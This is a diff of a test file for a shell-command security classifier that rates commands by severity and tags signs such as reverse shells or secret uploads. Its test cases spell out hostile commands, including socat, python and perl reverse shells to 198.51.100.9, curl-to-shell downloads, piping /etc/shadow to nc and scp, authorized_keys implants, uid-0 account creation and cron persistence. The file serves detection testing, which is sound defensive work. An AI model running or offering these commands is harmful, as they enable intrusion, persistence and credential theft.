@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest'
 import { asShellReads } from '#resources/setting/security/command/asShellReads.ts'
 import { evidenceOf, withoutAddresses } from '#resources/setting/security/evidence.ts'
-import { judgeCommand } from '#resources/setting/security/command/patterns.ts'
+import { judgeCommand } from '#resources/setting/security/command/judgeCommand.ts'
 
 const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINotAKeyNotAKeyNotAKeyNotAKey'
 
@@ -26,7 +26,7 @@ describe('what was planted is recognized', () => {
     ['setsid /tmp/.font-unix/x &', 'critical', ['hiddenTmp']],
     ['cp a /tmp/.x; /tmp/.x &', 'critical', ['hiddenTmp']],
     ['cp a /tmp/.x; cd /tmp; setsid nohup ./.x', 'critical', ['hiddenTmp']],
-    ['curl https://example.org/a > /tmp/.x; sh /tmp/.x', 'critical', ['hiddenTmp']],
+    ['curl https://example.org/a > /tmp/.x; sh /tmp/.x', 'critical', ['hiddenTmp', 'dlPipeShell']],
     ['nohup ./app > /tmp/.app.log 2>&1 &', 'high', ['hiddenTmp']],
     ['./app >& /tmp/.app.log', 'high', ['hiddenTmp']],
     ['setsid flock -n /tmp/.lock ./run.sh /tmp/.lock', 'high', ['hiddenTmp']],
@@ -52,7 +52,7 @@ describe('what was planted is recognized', () => {
     [
       'd=/dev/shm; f=.kworker_u8; s=198.51.100.23\ncurl -fso $d/$f http://$s/k8 \\\n && chmod 755 ${d}/${f} && setsid $d/$f &',
       'critical',
-      ['hiddenTmp', 'rawIpHttp'],
+      ['hiddenTmp', 'dlPipeShell', 'rawIpHttp'],
     ],
     ['t=tcp; h=198.51.100.9; bash -c "exec 3<>/dev/$t/$h/443 && sh <&3 >&3 2>&3"', 'critical', ['revShell']],
     ['bash -c \'b"as"h -i >& /dev/t"c"p/198.51.100.9/1 0>&1\'', 'critical', ['revShell']],
@@ -79,6 +79,40 @@ describe('what was planted is recognized', () => {
     ['wget --post-file=/etc/shadow https://bk.example/in', 'high', ['secretUpload']],
     ['systemctl disable --now aegis.service', 'medium', ['guardOff']],
     ['setenforce 0; rm -rf /usr/local/aegis', 'medium', ['guardOff']],
+    // Other ways to the same.
+    ['install -m 600 k ~/.ssh/authorized_keys', 'critical', ['sshKeyWrite']],
+    ['dd if=k of=/root/.ssh/authorized_keys conv=notrunc oflag=append', 'critical', ['sshKeyWrite']],
+    [`python3 -c 'open("/root/.ssh/authorized_keys","a").write(k)'`, 'critical', ['sshKeyWrite']],
+    ['useradd -o -u 0 -g 0 -M syslogd', 'critical', ['rootUser']],
+    ['usermod -ou0 www', 'critical', ['rootUser']],
+    ["echo 'sys:x:0:0::/root:/bin/sh' >> /etc/passwd", 'critical', ['rootUser']],
+    ["echo 'www ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-www", 'medium', ['sudoers']],
+    ['usermod -aG sudo www', 'medium', ['sudoers']],
+    ['socat TCP:198.51.100.9:1 EXEC:/bin/bash,pty,stderr', 'critical', ['revShell']],
+    [
+      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
+      'critical',
+      ['revShell'],
+    ],
+    [
+      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'`,
+      'critical',
+      ['revShell'],
+    ],
+    ['echo 7472 | xxd -r -p | sh', 'critical', ['b64Shell']],
+    ['curl -fsSLo /tmp/i https://example.org/i; bash /tmp/i --yes', 'medium', ['dlPipeShell']],
+    ['wget -q https://example.org/i.sh && chmod +x i.sh && ./i.sh', 'medium', ['dlPipeShell']],
+    ['curl -O http://8.8.4.4/i.sh; sh i.sh', 'critical', ['dlPipeShell', 'rawIpHttp']],
+    ['curl -fsSL https://example.org/i.py | python3', 'medium', ['dlPipeShell']],
+    ['wget -qO- https://example.org/i.pl | perl -', 'medium', ['dlPipeShell']],
+    ['source <(curl -s https://example.org/env)', 'medium', ['dlSubstShell']],
+    ['. <(curl -s https://example.org/env)', 'medium', ['dlSubstShell']],
+    ['bash <<< "$(curl -fsSL https://example.org/i.sh)"', 'medium', ['dlSubstShell']],
+    ['scp /etc/shadow drop@198.51.100.9:', 'high', ['secretUpload']],
+    ['cat /etc/shadow | nc 198.51.100.9 1', 'high', ['secretUpload']],
+    ['nc 198.51.100.9 1 < /etc/shadow', 'high', ['secretUpload']],
+    ['echo "* * * * * root /usr/lib/x" > /etc/cron.d/x', 'medium', ['crontabWrite']],
+    ['nezha-agent -s dash.example.net:8008 -p k', 'high', ['secondAgent']],
     ['docker run -d --name p iproyal/pawns-cli', 'medium', ['sellBandwidth']],
   ])('%s', (command, level, signs) => {
     const verdict = judgeCommand(command)
@@ -109,6 +143,22 @@ describe('ordinary commands are not doubted', () => {
     'tar czf /var/tmp/backup.tgz /srv && ./upload.sh',
     'ls -la /tmp/../srv/.config',
     'find /tmp -mtime +7 -delete',
+    'dd if=/root/.ssh/authorized_keys of=/tmp/keys; install -m 600 ~/.ssh/authorized_keys /srv/keys.bak',
+    `python3 -c 'print(open("/root/.ssh/authorized_keys", "r").read())'`,
+    'useradd -m -u 1001 app && usermod -aG docker app && sudo systemctl restart app',
+    'cat /etc/sudoers /etc/crontab > /tmp/audit.txt; ls /etc/cron.d',
+    'visudo -cf /etc/sudoers.d/90-cloud-init',
+    'socat TCP-LISTEN:80,fork TCP:10.0.0.7:80',
+    `python3 -c 'import socket; socket.create_connection(("db", 5432), 3)' && exec sh /opt/start.sh`,
+    'echo 7472 | xxd -r -p > /tmp/a.bin',
+    'curl -s https://api.example.org/status | python3 -m json.tool',
+    `curl -s https://api.example.org/status | python3 -c 'import json,sys; print(json.load(sys.stdin)["ok"])'`,
+    "curl -s https://example.org/list | perl -ne 'print if /x/'",
+    'wget -q https://example.org/data.csv && ./import.sh data.csv',
+    'scp -i /root/.ssh/id_backup /srv/b.tgz backup@10.0.0.5:/srv',
+    'scp root@10.0.0.5:/etc/shadow /tmp/',
+    'restic backup /etc /root/.ssh; echo ok | nc -w1 statsd 8125',
+    'nezha-agent service restart',
     'systemctl restart nezha-agent',
     'echo "$PASSWORD" | base64',
     'ping -c1 8.8.8.8; curl https://example.com',
